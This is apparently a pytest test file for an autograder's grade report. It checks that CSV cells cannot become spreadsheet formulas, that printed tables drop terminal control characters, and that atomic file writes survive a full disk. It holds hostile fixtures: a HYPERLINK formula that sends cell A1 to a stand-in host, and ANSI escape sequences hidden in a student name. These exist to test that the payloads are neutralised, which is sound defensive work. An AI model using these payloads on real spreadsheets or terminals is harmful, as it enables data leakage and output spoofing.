"""grades.csv and the table on the terminal: a student's folder name is data, never a
spreadsheet formula or a command to the terminal."""
import csv
import re

import pytest

from autograder.report import grades


def _row(student="alice", **fields):
    return {"student": student, "assignment": "conv", "score": 12.0, "max_score": 12.0, "seed": 7,
            "status": "graded", **fields}


def _read_back(path) -> list:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_cells_are_never_formulas(start, tmp_path):
    hostile = {column: f'{start}HYPERLINK("http://example.com/?"&A1)' for column in grades.COLUMNS}
    grades.write_csv(tmp_path / "grades.csv", [hostile])
    (row,) = _read_back(tmp_path / "grades.csv")
    assert row == {column: "'" + value for column, value in hostile.items()}


def test_csv_keeps_numbers_and_plain_names(tmp_path):
    table = [_row("alice", score=0, max_score=12.5, seed=20261123), _row("b=c", score=-1.5, seed=""),
             _row("d-e@f", score=3, status="failed")]
    grades.write_csv(tmp_path / "grades.csv", table)
    rows = _read_back(tmp_path / "grades.csv")
    assert [row["student"] for row in rows] == ["alice", "b=c", "d-e@f"]
    assert [(row["score"], row["max_score"], row["seed"]) for row in rows] == [
        ("0", "12.5", "20261123"), ("-1.5", "12.0", ""), ("3", "12.0", "7")]


def test_printed_table_has_no_control_characters(capsys):
    controls = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0)]))
    grades.print_table([
        _row(f"\x1b[2J\x1b[31mmallory{controls}\x1b]0;title\x07", assignment="conv\x9b1A\x08\r"),
        _row("bob", status="failed"),
    ])
    out = capsys.readouterr().out
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", out), repr(out)
    lines = out.splitlines()
    assert len(lines) == 3 and "mallory" in lines[1] and "bob" in lines[2] and "(not graded)" in lines[2]
    assert lines[1].index(" / ") == lines[2].index(" / ")  # the columns line up on what is shown


def test_a_write_that_fails_leaves_the_old_file_and_no_half_written_one(tmp_path, monkeypatch):
    import os

    from autograder.report import results

    table = tmp_path / "grades.csv"
    results.write_text_atomically(table, "student,score\nada,12\n")
    assert oct(table.stat().st_mode & 0o777) == oct(0o644)

    def disk_full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", disk_full)
    with pytest.raises(OSError, match="No space"):
        results.write_bytes_atomically(table, b"student,score\n", mode=0o600)
    assert table.read_text() == "student,score\nada,12\n" and [p.name for p in tmp_path.iterdir()] == ["grades.csv"]
